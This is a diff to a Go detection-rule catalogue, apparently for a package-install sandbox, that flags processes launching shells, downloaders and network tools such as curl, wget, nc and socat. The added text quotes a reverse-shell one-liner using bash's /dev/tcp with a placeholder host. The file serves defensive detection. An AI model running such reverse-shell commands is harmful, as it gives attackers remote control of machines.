@@ -154,7 +154,8 @@ var catalogue = []Rule{
 		Description: "A process was started whose program is a shell (sh, bash, dash, zsh, …), a downloader or network " +
 			"tool (curl, wget, nc, socat, ssh, nslookup, dig, host, ping, …), PowerShell or cmd, or an interpreter running " +
 			"inline code (node -e/-p, python -c, perl -e, …). In the install phase `sh -c <script>` is how lifecycle " +
-			"scripts run and is not counted, and neither is `node -e` whose code only loads one of the package's own " +
+			"scripts run and is not counted (unless its script connects through bash's /dev/tcp or /dev/udp, as reverse " +
+			"shells do: `bash -i >& /dev/tcp/host/port 0>&1`), and neither is `node -e` whose code only loads one of the package's own " +
 			"files (`try{require('./postinstall')}catch(e){}`): that is the package's install script, written inline. " +
 			"What the script starts is counted. An attempt to run such a program that does not exist counts the same " +
 			"(the sandbox runs a stand-in that fails like a missing command, so the attempt is seen).",
